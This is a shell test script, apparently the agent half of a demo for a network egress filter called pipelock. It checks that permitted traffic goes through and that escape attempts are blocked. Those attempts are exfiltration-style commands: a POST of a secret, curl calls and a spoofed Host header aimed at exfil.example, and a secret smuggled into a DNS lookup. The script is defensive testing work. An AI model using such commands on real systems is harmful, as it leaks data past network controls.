#!/bin/sh
# The agent of the demo. It knows nothing of pipelock: no proxy variables, no certificates, no settings. It tries what it
# may do and what it may not, and fails when either goes otherwise than it should.
here=$(dirname "$0")
work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT
surprises=0

# try WANTED WHAT COMMAND...: runs the command; WANTED is "through" or "stopped".
try() {
    wanted=$1 what=$2
    shift 2
    if "$@" >"$work/log" 2>&1; then got=through; else got=stopped; fi
    mark=ok
    if [ "$got" != "$wanted" ]; then
        mark='NOT EXPECTED'
        surprises=$((surprises + 1))
        sed 's/^/    /' "$work/log"
    fi
    printf '  %-7s  %-50s  %s\n' "$got" "$what" "$mark"
}

web=http://web.demo.test:18080
python=/usr/bin/python3
export PIP_DISABLE_PIP_VERSION_CHECK=1 GIT_TERMINAL_PROMPT=0 HOME="$work"

echo 'The agent does its work:'
try through 'GET a web page' curl -sSf -m 20 "$web/"
try through 'pip download from the index' "$python" -m pip download -q --no-cache-dir --no-deps -d "$work" \
    --index-url http://pypi.demo.test:18080/simple --trusted-host pypi.demo.test hello-demo
try through 'git clone' git clone -q http://git.demo.test:18080/hello.git "$work/hello"
try through 'TLS, end to end with the server' curl -sSf -m 20 --cacert "$here/tls.pem" https://tls.demo.test:18443/

echo 'The agent tries what it must not:'
try stopped 'POST where only GET is allowed' curl -sSf -m 20 -d secret=hunter2 "$web/"
try stopped 'a path outside the rule' curl -sSf -m 20 http://pypi.demo.test:18080/private
try stopped 'a host that no rule names' curl -sSf -m 20 http://exfil.example/
try stopped 'an address instead of a name' curl -sSf -m 20 http://192.0.2.1:18080/
try stopped 'a port that no rule uses' curl -sSf -m 20 http://192.0.2.1/
try stopped 'another Host in the request than was connected to' curl -sSf -m 20 -H 'Host: exfil.example' "$web/"
try stopped 'TLS to be read, to a server that nobody vouches for' curl -sSf -m 20 https://read.demo.test:18443/
try stopped 'UDP (HTTP/3)' "$python" "$here/agent.py" udp 192.0.2.1 443
try stopped 'a secret in a name asked of a foreign DNS server' "$python" "$here/agent.py" dns 192.0.2.53 hunter2.exfil.example
try stopped 'ping' "$python" "$here/agent.py" ping 192.0.2.1
try stopped 'a service of the host on loopback' "$python" "$here/agent.py" tcp 127.77.0.1 18080
try stopped 'Multipath TCP' "$python" "$here/agent.py" mptcp 127.77.0.1 18080

[ "$surprises" -eq 0 ]
